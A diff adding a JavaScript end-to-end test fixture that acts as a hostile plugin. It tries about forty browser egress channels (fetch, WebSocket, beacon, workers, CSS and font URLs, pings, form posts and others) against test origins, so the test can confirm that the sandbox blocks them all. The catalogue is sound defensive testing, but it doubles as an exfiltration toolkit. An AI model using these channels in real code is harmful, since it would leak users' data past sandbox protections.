@@ -1,0 +1,170 @@
+// A hostile plugin's egress attempts (tests/e2e/egress.test.mjs). A classic script that only
+// defines `egressAttack` and `EGRESS_CHANNELS`, so that the same bytes run as a page's script
+// (`iframe` + `src`), inside a bundle or srcdoc document, or as worker code (they are pasted in
+// front of a few lines that call it).
+//
+// egressAttack({ run, targets: { name: origin, … }, settleMs }) tries every channel below towards
+// every target origin, each request to `<origin>/sink/<channel><ext>?egress-token=<run>.<channel>.<target>`:
+// a token unique to this attempt, which the test then looks for in each origin's request log (the
+// servers answer any /sink/ path 200, so only the browser or the SDK can stop a request). It
+// resolves, after `settleMs`, with what the code itself saw of each attempt (diagnostics only:
+// the logs decide). It never navigates its own document.
+//
+// It stays clear of what the bundle analysis refuses outright (eval, Function, string timers,
+// computed global access): a hostile plugin has no need of those to reach the network.
+
+/** [name, where ('window' | 'worker' | 'both'), extension, attempt(url, ctx)] */
+var EGRESS_CHANNELS = [
+  ['fetch-cors', 'both', '.json', (u) => fetch(u)],
+  ['fetch-no-cors', 'both', '.json', (u) => fetch(u, { mode: 'no-cors' })],
+  ['fetch-keepalive', 'both', '.json', (u) => fetch(u, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' })],
+  ['xhr', 'both', '.json', (u) => {
+    const x = new XMLHttpRequest();
+    x.open('GET', u);
+    x.send();
+  }],
+  ['websocket', 'both', '', (u) => {
+    const ws = new WebSocket(u.replace(/^http/, 'ws'));
+    ws.onopen = () => ws.send('secret');
+  }],
+  ['eventsource', 'both', '.sse', (u) => {
+    const es = new EventSource(u);
+    setTimeout(() => es.close(), 3000);
+  }],
+  ['import', 'both', '.js', (u) => import(u)],
+  ['importScripts', 'worker', '.js', (u) => importScripts(u)],
+  ['worker', 'both', '.js', (u) => quiet(new Worker(u))],
+  ['module-worker', 'both', '.js', (u) => quiet(new Worker(u, { type: 'module' }))],
+  ['shared-worker', 'window', '.js', (u) => quiet(new SharedWorker(u))],
+  ['blob-worker-fetch', 'both', '.json', (u) => blobWorker(`fetch(${JSON.stringify(u)}, { mode: 'no-cors' }).catch(() => {});`)],
+  ['blob-worker-importScripts', 'both', '.js', (u) => blobWorker(`importScripts(${JSON.stringify(u)});`)],
+  ['fontface', 'both', '.woff2', (u) => {
+    const f = new FontFace('egress-font', `url(${u})`);
+    return f.load();
+  }],
+  ['beacon', 'window', '.json', (u) => navigator.sendBeacon(u, 'secret')],
+  ['script', 'window', '.js', (u) => add('script', { src: u })],
+  ['module-script', 'window', '.js', (u) => add('script', { type: 'module', src: u })],
+  ['img', 'window', '.png', (u) => add('img', { src: u })],
+  ['image-object', 'window', '.png', (u) => { new Image().src = u; }],
+  ['img-srcset', 'window', '.png', (u) => add('img', { srcset: `${u} 1x` })],
+  ['picture-source', 'window', '.png', (u) => {
+    const p = document.createElement('picture');
+    const s = document.createElement('source');
+    s.setAttribute('srcset', `${u} 1x`);
+    p.append(s, document.createElement('img'));
+    root().append(p);
+  }],
+  ['svg-image', 'window', '.png', (u) => {
+    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
+    const img = document.createElementNS('http://www.w3.org/2000/svg', 'image');
+    img.setAttribute('href', u);
+    img.setAttribute('width', '1');
+    img.setAttribute('height', '1');
+    svg.append(img);
+    root().append(svg);
+  }],
+  ['input-image', 'window', '.png', (u) => add('input', { type: 'image', src: u })],
+  ['video-poster', 'window', '.png', (u) => add('video', { poster: u })],
+  ['link-stylesheet', 'window', '.css', (u) => add('link', { rel: 'stylesheet', href: u })],
+  ['link-prefetch', 'window', '.js', (u) => add('link', { rel: 'prefetch', href: u })],
+  ['link-preload', 'window', '.png', (u) => add('link', { rel: 'preload', as: 'image', href: u })],
+  ['link-modulepreload', 'window', '.js', (u) => add('link', { rel: 'modulepreload', href: u })],
+  ['link-icon', 'window', '.png', (u) => add('link', { rel: 'icon', href: u })],
+  ['style-import', 'window', '.css', (u) => addStyle(`@import url("${u}");`)],
+  ['style-url', 'window', '.png', (u, c) => {
+    const cls = `egress-bg-${c.n}`;
+    addStyle(`.${cls} { background-image: url("${u}"); width: 4px; height: 4px; }`);
+    add('div', { class: cls });
+  }],
+  ['style-font-face', 'window', '.woff2', (u, c) => {
+    const fam = `egress-ff-${c.n}`;
+    addStyle(`@font-face { font-family: ${fam}; src: url("${u}"); } .${fam} { font-family: ${fam}; }`);
+    add('span', { class: fam }).textContent = 'x';
+  }],
+  ['style-attr', 'window', '.png', (u) => add('div', { style: `background-image: url("${u}"); width: 4px; height: 4px` })],
+  ['audio', 'window', '.mp3', (u) => add('audio', { preload: 'auto', src: u })],
+  ['video', 'window', '.mp4', (u) => add('video', { preload: 'auto', src: u })],
+  ['object', 'window', '.html', (u) => add('object', { data: u, type: 'text/html' })],
+  ['embed', 'window', '.html', (u) => add('embed', { src: u, type: 'text/html' })],
+  ['iframe', 'window', '.html', (u) => add('iframe', { src: u })],
+  ['a-ping', 'window', '.json', (u, c) => {
+    // A same-document link (no navigation away), with a ping to the target. Absolute: a srcdoc
+    // document's base URL is its parent's, so a bare `#x` would navigate it to the host page.
+    const a = add('a', { href: `${String(location.href).split('#')[0]}#egress-${c.n}`, ping: u });
+    a.textContent = 'x';
+    a.click();
+  }],
+  ['form-submit', 'window', '.html', (u, c) => {
+    // Into a frame of its own (never this document), so the attempt is not a self-navigation.
+    const name = `egress-sink-${c.n}`;
+    add('iframe', { name });
+    const f = add('form', { method: 'post', action: u, target: name });
+    const i = document.createElement('input');
+    i.name = 'secret';
+    i.value = 'secret';
+    f.append(i);
+    f.submit();
+  }],
+  ['window-open', 'window', '.html', (u) => window.open(u, '_blank')],
+];
+
+function root() {
+  return document.body || document.documentElement;
+}
+
+function add(tag, attrs) {
+  const e = document.createElement(tag);
+  for (const [k, v] of Object.entries(attrs)) e.setAttribute(k, v);
+  root().append(e);
+  return e;
+}
+
+function addStyle(css) {
+  const s = document.createElement('style');
+  s.textContent = css;
+  root().append(s);
+  return s;
+}
+
+function blobWorker(code) {
+  const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
+  return quiet(new Worker(url));
+}
+
+/** A worker whose failure to load stays its own (it would otherwise crash the plugin's worker). */
+function quiet(worker) {
+  worker.addEventListener('error', (e) => e.preventDefault());
+  return worker;
+}
+
+/** Try every channel of this context towards every target; resolves with what was seen. */
+async function egressAttack({ run, targets, settleMs = 1500 }) {
+  const inWorker = typeof WorkerGlobalScope !== 'undefined' && self instanceof WorkerGlobalScope;
+  const seen = [];
+  const waits = [];
+  let n = 0;
+  for (const [channel, where, ext, attempt] of EGRESS_CHANNELS) {
+    if (where !== 'both' && where !== (inWorker ? 'worker' : 'window')) continue;
+    for (const [target, origin] of Object.entries(targets)) {
+      const url = `${origin}/sink/${channel}${ext}?egress-token=${run}.${channel}.${target}`;
+      const record = { channel, target, outcome: 'started' };
+      seen.push(record);
+      n += 1;
+      try {
+        const r = attempt(url, { n: `${n}-${run.replace(/[^A-Za-z0-9-]/g, '')}` });
+        if (r && typeof r.then === 'function') {
+          waits.push(Promise.race([
+            r.then(() => { record.outcome = 'resolved'; }, (e) => { record.outcome = `rejected ${e && e.name}`; }),
+            new Promise((res) => setTimeout(res, settleMs)),
+          ]));
+        }
+      } catch (e) {
+        record.outcome = `threw ${e && e.name}`;
+      }
+    }
+  }
+  await Promise.all(waits);
+  await new Promise((res) => setTimeout(res, settleMs));
+  return seen;
+}
